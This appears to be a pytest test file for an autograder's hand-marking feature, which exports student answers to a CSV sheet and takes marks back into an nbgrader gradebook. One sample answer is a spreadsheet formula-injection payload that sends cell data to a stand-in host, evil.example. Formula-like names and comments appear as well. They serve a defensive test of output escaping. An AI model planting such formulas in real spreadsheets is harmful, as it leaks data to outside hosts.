"""A question marked across the class: sixty answers on one sheet, filled in by hand, and taken back."""

import csv
import io
import random
import re
from dataclasses import replace

import pytest
from command import autograder
from made import EVIL, LAB, by_hand, came_from, enrol, fill, results, table, well_formed, with_policy
from nbgrader.api import Gradebook
from our_course import COURSE, Silent, lab

from autograder.errors import Complaint, Usage
from autograder.grading.register.classroom import Classroom
from autograder.grading.reports.answers import (
    Answer,
    Given,
    SheetError,
    read_question,
    take_in,
    together,
    write_sheet,
)
from autograder.grading.reports.feedback import write_feedback
from autograder.grading.reports.page import write_report

pytestmark = pytest.mark.filterwarnings("ignore")

ASKED = "explain-flat"  # three points
KINDS = (
    "The weights are nearly uniform, since unit vectors have small dot products.",
    "The  weights are nearly uniform,\nsince unit vectors have small dot products.",  # the same but for blanks
    "The weights are almost uniform, since unit vectors have small dot products.",  # nearly the same
    "Softmax divides by the sum, so it has to be flat.",
    '=HYPERLINK("http://evil.example/?"&A1, "my answer")',
    f"It is flat because {EVIL} $x^2$.",
)


def sixty():
    """What sixty students write: five kinds ten times each, of the last ten each something of their own."""
    own = ["".join(random.Random(n).choices("abcdefghij klmnop", k=80)) for n in range(10)]
    answers = [KINDS[n % 5] for n in range(50)] + own[:9] + [KINDS[5]]
    return {f"s{n:02}": answer for n, answer in enumerate(answers)}


def test_the_sheet_says_what_is_alike(classroom, prepared):
    said = {"ada": KINDS[0], "bo": KINDS[1], "cy": KINDS[2], "di": KINDS[3]}
    fill(classroom, {who: results(who, answer=answer) for who, answer in said.items()}, gradebook=prepared)
    rows, _ = rows_of(sheet_of(classroom))
    assert {who: row["alike"] for who, row in rows.items()} == {
        "ada": "1: first",
        "bo": "1: the same",
        "cy": "1: nearly the same",
        "di": "",
    }


@pytest.fixture
def room(classroom, prepared):
    """A small class: two answers that are the same, one of its own, and one hand-in with nothing written."""
    said = {"ada": KINDS[0], "bo": KINDS[0], "cy": KINDS[3]}
    marked = {student: results(student, answer=answer) for student, answer in said.items()}
    marked["di"] = replace(results("di"), untouched=(ASKED,))
    fill(classroom, marked, gradebook=prepared)
    enrol(classroom, "Name,Login\nAda Lovelace,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
    return classroom


def sheet_of(room, **options):
    """The question's sheet as it is written now, and its path."""
    question = read_question(room, lab(LAB), ASKED, **options)
    write_sheet(question, workers=1)
    return question.sheet


def rows_of(path):
    """A sheet's rows by whose they are, and what stands before them."""
    lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    head = next(i for i, line in enumerate(lines) if "key" in line)
    return {line[1]: dict(zip(lines[head], line, strict=True)) for line in lines[head + 1 :]}, lines[:head]


def filled(path, given, to=None, delimiter=",", encoding="utf-8", end="\n", order=None):
    """The sheet as a person saves it who has given {student: (points, comment)}."""
    rows, top = rows_of(path)
    for student, cells in given.items():
        rows[student].update(zip(("points", "comment"), cells))
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter, lineterminator=end)
    writer.writerows([*top, list(next(iter(rows.values())))])
    lines = list(rows.values())
    writer.writerows(list(row.values()) for row in (order(lines) if order else lines))
    to = to or path.with_name("filled.csv")
    to.write_bytes(text.getvalue().encode(encoding))
    return to


def taken(room, *sheets, name=ASKED):
    return take_in(room, lab(LAB), name, sheets)


def in_gradebook(room, name=ASKED, of_lab=LAB):
    """Points by hand and words of everybody, as nbgrader's own formgrader reads them."""
    found = {}
    with Gradebook(room.db, COURSE.id) as book:
        for submission in book.assignment_submissions(of_lab):
            notebook = submission.notebooks[0]
            grade = next(g for g in notebook.grades if g.name in (name, f"test-{name}"))
            comment = next(c for c in notebook.comments if c.name == name)
            found[submission.student.id] = (grade.manual_score, comment.manual_comment)
            assert not (grade.manual_score is not None and grade.needs_manual_grade)
    return found


@pytest.mark.long
def test_sixty_answers_marked_in_a_spreadsheet(classroom, prepared):
    said = sixty()
    fill(classroom, {s: results(s, answer=answer) for s, answer in said.items()}, gradebook=prepared)
    written = autograder("answers", LAB, ASKED, "--classroom", classroom.root, here=True)
    assert written.returncode == 0, written.stderr
    assert "60 answers, 60 without a mark." in written.stderr
    path = classroom.root / "answers" / LAB / f"{ASKED}.csv"
    assert written.stdout.split() == [str(path.with_suffix(".html")), str(path)]

    rows, top = rows_of(path)
    assert set(rows) == set(said)
    assert "3 points." in top[0][0] and lab(LAB).mark_schemes()[ASKED][:40] in top[0][0] and top[1] == []
    # Points by what was written, as a person would: the same for the same. Every second one gets a comment.
    worth = {
        KINDS[0]: "2,5",
        KINDS[1]: "2,5",
        KINDS[2]: "2",
        KINDS[3]: "1",
        KINDS[4]: "0",
        KINDS[5]: "3",
    }
    given = {
        student: (worth.get(answer, "0,75"), f"Siehe Übung; {student}" if int(student[1:]) % 2 else "")
        for student, answer in said.items()
    }
    back = filled(path, given, delimiter=";", encoding="utf-8-sig", end="\r\n", order=lambda rows: rows[::-1])
    took = autograder("answers", LAB, ASKED, "--take", back, "--classroom", classroom.root, here=True)
    assert (took.returncode, took.stderr) == (0, "")
    assert took.stdout == "60 marks and 30 comments taken in; 0 answers still wait.\n"

    expected = {
        student: (float(points.replace(",", ".")), comment or None)
        for student, (points, comment) in given.items()
    }
    assert in_gradebook(classroom) == expected
    pages = write_feedback(classroom, labs=[lab(LAB)], progress=Silent())
    assert (pages.made, pages.failed) == (60, [])
    write_report(classroom)
    marks = {row["student_id"]: row for row in table((classroom.report / "grades.csv").read_text("utf-8"))}
    for student, (points, comment) in expected.items():
        page = (classroom.feedback / student / LAB / f"{LAB}.html").read_text("utf-8")
        line = page[page.index('href="#at-explain-flat"') :].split("</li>")[0]
        assert "read by a person" in line and f"{points:g} of 3</span>" in line
        assert (f"Siehe Übung; {student}</blockquote>" in line) == bool(comment)
        # all right in what is judged, 10 points, and what the person gave
        assert (marks[student]["score"], marks[student]["state"]) == (str(10 + points), "complete")


def test_taking_a_sheet_in_again_changes_nothing_and_a_new_one_shows_what_was_given(room):
    path = filled(sheet_of(room), {"Ada Lovelace": ("2", "Well said."), "Cy Twombly": ("0", "")})
    assert taken(room, path) == "2 marks and 1 comment taken in; 1 answer still waits."
    assert taken(room, path) == "0 marks and 0 comments taken in; 1 answer still waits."
    rows, _ = rows_of(sheet_of(room))
    assert (rows["Ada Lovelace"]["points"], rows["Ada Lovelace"]["comment"]) == ("2", "Well said.")
    assert (rows["Cy Twombly"]["points"], rows["Bo Li"]["points"]) == ("0", "")
    page = (path.parent / f"{ASKED}.html").read_text("utf-8")
    assert "1 without a mark" in page and "2 of 3" in page and "Well said." in page


def test_an_empty_cell_leaves_what_is_there_and_a_comment_needs_no_points(room):
    by_hand(room, "ada", 1.5, "Half.")
    path = filled(sheet_of(room), {"Ada Lovelace": ("", "Better."), "Bo Li": ("", "Where?")})
    assert taken(room, path) == "0 marks and 2 comments taken in; 2 answers still wait."
    assert in_gradebook(room)["ada"] == (1.5, "Better.") and in_gradebook(room)["bo"] == (None, "Where?")


@pytest.mark.parametrize(
    ("delimiter", "encoding", "end", "points"),
    [
        (",", "utf-8", "\n", "2.5"),
        (";", "utf-8-sig", "\r\n", "2,5"),
        ("\t", "utf-16", "\r\n", "2,50"),
        (";", "cp1252", "\r", " 2.5 "),
    ],
)
def test_what_spreadsheets_make_of_a_sheet(room, delimiter, encoding, end, points):
    given = {"Bo Li": (points, "Schön; oder, naïve\nzweite Zeile")}
    path = filled(sheet_of(room), given, delimiter=delimiter, encoding=encoding, end=end)
    text = path.read_bytes().decode(encoding)
    path.write_bytes(f"sep={delimiter}{end}{text}".encode(encoding))  # as Excel likes it
    assert taken(room, path).startswith("1 mark and 1 comment taken in")
    assert in_gradebook(room)["bo"] == (2.5, "Schön; oder, naïve\nzweite Zeile")


def test_rows_may_be_missing_and_in_any_order_with_the_headings_among_them(room):
    path = filled(sheet_of(room), {"Bo Li": ("1", ""), "Cy Twombly": ("2", "")})
    lines = [line for line in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")) if line]
    kept = [line for line in lines if "Ada" not in "".join(line)]
    text = io.StringIO()
    csv.writer(text).writerows(sorted(kept, key=lambda line: line[-1]))
    path.write_text(text.getvalue(), "utf-8")
    assert taken(room, path) == "2 marks and 0 comments taken in; 1 answer still waits."


def other(room):
    """Another answer of Bo's, marked after the sheet was written."""
    fill(room, {"bo": results("bo", answer="A new answer.")}, gradebook=room.root / "gradebook.db")


REFUSED = {
    "over": (("3.5", ""), "filled.csv, row {}: the points are 3.5, but the question is worth 3."),
    "below": (("-1", ""), "filled.csv, row {}: the points are '-1', which is no number such as 2 or 2.5."),
    "a date": (("01. Feb", ""), "the points are '01. Feb', which is no number"),
    "words": (("two", ""), "the points are 'two', which is no number"),
    "not a number": (("nan", ""), "the points are 'nan', which is no number"),
    "a power": (("1e0", ""), "the points are '1e0', which is no number"),
    "long": (("1", "x" * 10_001), "the comment has 10,001 characters; at most 10,000 can be kept."),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_row_that_cannot_be_taken_in(room, name):
    cells, sentence = REFUSED[name]
    path = filled(sheet_of(room), {"Ada Lovelace": ("1", ""), "Bo Li": cells})
    number = 1 + next(
        i for i, line in enumerate(csv.reader(io.StringIO(path.read_text("utf-8")))) if "Bo Li" in line
    )
    with pytest.raises(SheetError) as error:
        taken(room, path)
    assert str(error.value).startswith("Nothing was taken in.\n")
    assert sentence.format(number) in str(error.value)
    assert in_gradebook(room) == dict.fromkeys(("ada", "bo", "cy", "di"), (None, None))


def test_every_bad_row_is_told_at_once(room):
    path = filled(sheet_of(room), dict.fromkeys(("Ada Lovelace", "Bo Li", "Cy Twombly"), ("9", "")))
    with pytest.raises(SheetError) as error:
        taken(room, path)
    assert str(error.value).count("the points are 9, but the question is worth 3.") == 3


def test_keys_that_are_nobodys(room):
    path = filled(sheet_of(room), {"Ada Lovelace": ("1", "")})
    text = path.read_text("utf-8")
    for key, sentence in (
        ("", "it has points or a comment, but no key, so it is nobody's."),
        ("abcdefghij-abcdefghij-abcdefghij", f"its key belongs to no answer to {ASKED} of {LAB}"),
    ):
        path.write_text(re.sub(r"(Ada Lovelace.*),[a-p-]+$", rf"\1,{key}", text, flags=re.MULTILINE), "utf-8")
        with pytest.raises(SheetError, match=re.escape(sentence)):
            taken(room, path)


def test_the_sheet_of_another_question_gives_no_marks(room):
    path = sheet_of(room)
    filled(path, {"Ada Lovelace": ("1", "")}, to=path)
    with pytest.raises(SheetError, match="its key belongs to no answer to softmax of qkv-attention"):
        taken(room, path, name="softmax")


def test_columns_that_were_sorted_apart(room):
    path = filled(sheet_of(room), {"Ada Lovelace": ("1", "")})
    text = path.read_text("utf-8").replace("Ada Lovelace", "Bo Li")
    path.write_text(text, "utf-8")
    with pytest.raises(
        SheetError, match="the key is Ada Lovelace's, but the row says 'Bo Li'; were some columns sorted"
    ):
        taken(room, path)


def test_a_mark_belongs_to_the_answer_that_was_read(room):
    path = filled(sheet_of(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
    other(room)
    with pytest.raises(SheetError, match="Bo Li has handed in another answer since this sheet was written"):
        taken(room, path)
    assert in_gradebook(room)["ada"] == (None, None)
    again = filled(sheet_of(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
    assert taken(room, again).startswith("2 marks")


def test_two_people_mark_their_parts(room):
    path = sheet_of(room)
    one = filled(path, {"Ada Lovelace": ("1", "One.")}, to=path.with_name("one.csv"))
    two = filled(path, {"Bo Li": ("2", "Two.")}, to=path.with_name("two.csv"))
    assert taken(room, one, two) == "2 marks and 2 comments taken in; 1 answer still waits."
    late = filled(path, {"Cy Twombly": ("3", "")}, to=path.with_name("late.csv"))
    assert taken(room, late).startswith("1 mark")  # by another hour: what it left empty stays
    assert in_gradebook(room) == {
        "ada": (1.0, "One."),
        "bo": (2.0, "Two."),
        "cy": (3.0, None),
        "di": (None, None),
    }


def test_two_people_mark_one_answer(room):
    path = sheet_of(room)
    one = filled(path, {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")}, to=path.with_name("one.csv"))
    two = filled(path, {"Ada Lovelace": ("2", ""), "Bo Li": ("2", "")}, to=path.with_name("two.csv"))
    with pytest.raises(
        SheetError, match=r"two.csv, row \d: Ada Lovelace was given 1 points in one.csv, row \d\."
    ):
        taken(room, one, two)
    assert in_gradebook(room)["bo"] == (None, None)
    taken(room, one)
    with pytest.raises(
        SheetError, match="Ada Lovelace was given 1 points in the gradebook since this sheet was written"
    ):
        taken(room, two)


def test_the_formgrader_and_the_sheet_agree(room):
    path = sheet_of(room)
    by_hand(room, "ada", 2, "In the formgrader.")
    with pytest.raises(SheetError, match="Ada Lovelace was given 2 points and other words in the gradebook"):
        taken(room, filled(path, {"Ada Lovelace": ("1", "")}))
    assert taken(room, filled(path, {"Bo Li": ("1", "")})).startswith("1 mark")
    assert in_gradebook(room)["ada"] == (2.0, "In the formgrader.")
    assert rows_of(sheet_of(room))[0]["Ada Lovelace"]["points"] == "2"


def test_no_cell_is_a_formula_and_no_comment_gains_one(room):
    evil = {"ada": KINDS[4], "bo": "a line\n@SUM(1)\n+1;=2", "cy": EVIL}
    fill(room, {s: results(s, answer=a) for s, a in evil.items()}, gradebook=room.root / "gradebook.db")
    enrol(room, "Name,Login\n=1+1,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
    by_hand(room, "bo", 1, "=2+2\n- and a list")
    path = sheet_of(room)
    for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
        for cell in line:
            for part in re.split(r"[\n;]", cell):
                assert not re.match(r"\s*[=+\-@]", part), part
    rows, _ = rows_of(path)
    assert rows["'=1+1"]["answer"].startswith("'=HYPERLINK")
    # A comment that was not touched stays as it was, to the line's end; a new one loses only our own quote.
    taken(room, filled(path, {"'=1+1": ("1", "'=3+3"), "Bo Li": ("2", rows["Bo Li"]["comment"])}))
    assert in_gradebook(room)["bo"] == (2.0, "=2+2\n- and a list")
    assert in_gradebook(room)["ada"] == (1.0, "=3+3")
    page = path.with_suffix(".html").read_text("utf-8")
    assert "<script" not in page
    well_formed(page)


def test_what_is_alike_stands_together():
    said = {"a": KINDS[3], "b": KINDS[0], "c": KINDS[2], "d": KINDS[1], "e": "w - x", "f": "w + x", "g": "x"}
    found = list(together([Answer(s, s, Given(), s, source=text) for s, text in said.items()]))
    assert [(group.number, [[a.student for _, a in same] for same in group.same]) for group in found] == [
        (1, [["b", "d"], ["c"]]),  # the same but for blanks; and nearly
        (2, [["f"], ["e"]]),  # a sign makes another answer: near, but never the same
        (0, [["a"]]),
        (0, [["g"]]),
    ]
    assert [n for group in found for same in group.same for n, _ in same] == [1, 2, 3, 4, 5, 6, 7]


def test_pseudonyms(room):
    path = sheet_of(room, anonymous=True)
    page = path.with_suffix(".html").read_text("utf-8")
    sheet = path.read_text("utf-8-sig")
    for known in ("Ada", "Lovelace", "ada", "Bo Li"):
        assert not re.search(rf"\b{known}\b", page) and not re.search(rf"\b{known}\b", sheet)
    secret = dict(
        line.split(",")[::-1]
        for line in (room.root / "pseudonyms.csv").read_text().replace("'", "").split()[1:]
    )
    assert taken(room, filled(path, {secret["bo"]: ("2", "")})).startswith("1 mark")
    assert in_gradebook(room)["bo"] == (2.0, None)
    own = rows_of(path)[0][secret["bo"]]["key"].split("-")[0]
    assert own in whose_keys(room)
    (room.root / "secret").write_text("another")  # without the secret of the class, a key tells nobody's name
    assert own not in whose_keys(Classroom(room.root, COURSE))


def whose_keys(room):
    """The parts of the keys that say whose answer it is."""
    question = read_question(room, lab(LAB), ASKED)
    return {question.key(answer).split("-")[0] for answer in question.answers}


def test_marks_in_a_sheet_that_were_not_taken_in_are_not_written_over(room):
    path = sheet_of(room)
    sheet_of(room)
    assert [p.name for p in sorted(path.parent.glob("*.csv"))] == [f"{ASKED}.csv"]
    filled(path, {"Ada Lovelace": ("1", "")}, to=path)
    said = autograder("answers", LAB, ASKED, "--classroom", room.root, here=True)
    kept = path.with_name(f"{ASKED}-earlier-1.csv")
    assert f"The sheet that was there has marks that are not taken in; it is {kept} now." in said.stderr
    assert rows_of(path)[0]["Ada Lovelace"]["points"] == ""
    assert taken(room, kept).startswith("1 mark")


def test_an_exercise_too(room):
    """The answer to somebody who asks for another look: a mark by hand for what was judged."""
    question = read_question(room, lab(LAB), "softmax")
    write_sheet(question, workers=1)
    rows, _ = rows_of(question.sheet)
    assert "def softmax" in rows["Ada Lovelace"]["answer"] or "raise" in rows["Ada Lovelace"]["answer"]
    back = filled(question.sheet, {"Ada Lovelace": ("1.5", "Half of it.")})
    assert taken(room, back, name="softmax").startswith("1 mark and 1 comment taken in")
    assert in_gradebook(room, "softmax")["ada"] == (1.5, "Half of it.")
    assert "(pass)" in question.page.read_text("utf-8")


def test_who_has_left_and_who_wrote_nothing_have_no_row(room):
    enrol(room, "Name,Login,Status\nAda,ada,\nBo,bo,withdrawn\nCy,cy,\nDi,di,\n")
    question = read_question(room, lab(LAB), ASKED)
    assert [answer.student for answer in question.answers] == ["ada", "cy"] and question.blank == 1


def test_a_group_is_marked_once(room):
    for student in ("ada", "bo"):
        came_from(room, student, "Moodle", members=("ada", "bo"), sha256="x")
    assert taken(room, filled(sheet_of(room), {"Bo Li": ("2", "Both.")})) == (
        "1 mark and 1 comment taken in; 1 answer still waits."
    )
    assert in_gradebook(room)["ada"] == (2.0, "Both.")


def test_files_that_are_no_sheets(room, tmp_path):
    for data, sentence in (
        (b"PK\x03\x04...", "is a spreadsheet program's own file. Save it as CSV"),
        (b"", "has no row with the headings"),
        (b"a,b\n1,2\n", "has no row with the headings"),
        (b"key,points,points\nx,1,2\n", "has the column 'points' twice"),
        (b"\x00\xff" * 1000, "has no row with the headings"),
    ):
        (tmp_path / "x.csv").write_bytes(data)
        with pytest.raises(SheetError, match=re.escape(sentence)):
            taken(room, tmp_path / "x.csv")
    with pytest.raises(SheetError, match="cannot be read: No such file"):
        taken(room, tmp_path / "nowhere.csv")
    with pytest.raises(SheetError, match="is not an ordinary file"):
        taken(room, tmp_path)


def test_questions_that_cannot_be_marked(room, classroom):
    with pytest.raises(
        Usage, match="has no question 'nothing'; marked by hand is explain-flat, and its exercises are"
    ):
        read_question(room, lab(LAB), "nothing")
    with_policy(room, dropped=[ASKED])
    with pytest.raises(Complaint, match="explain-flat is dropped from qkv-attention"):
        read_question(room, lab(LAB), ASKED)


def test_no_gradebook(classroom):
    with pytest.raises(Complaint, match="There is no gradebook yet"):
        read_question(classroom, lab(LAB), ASKED)
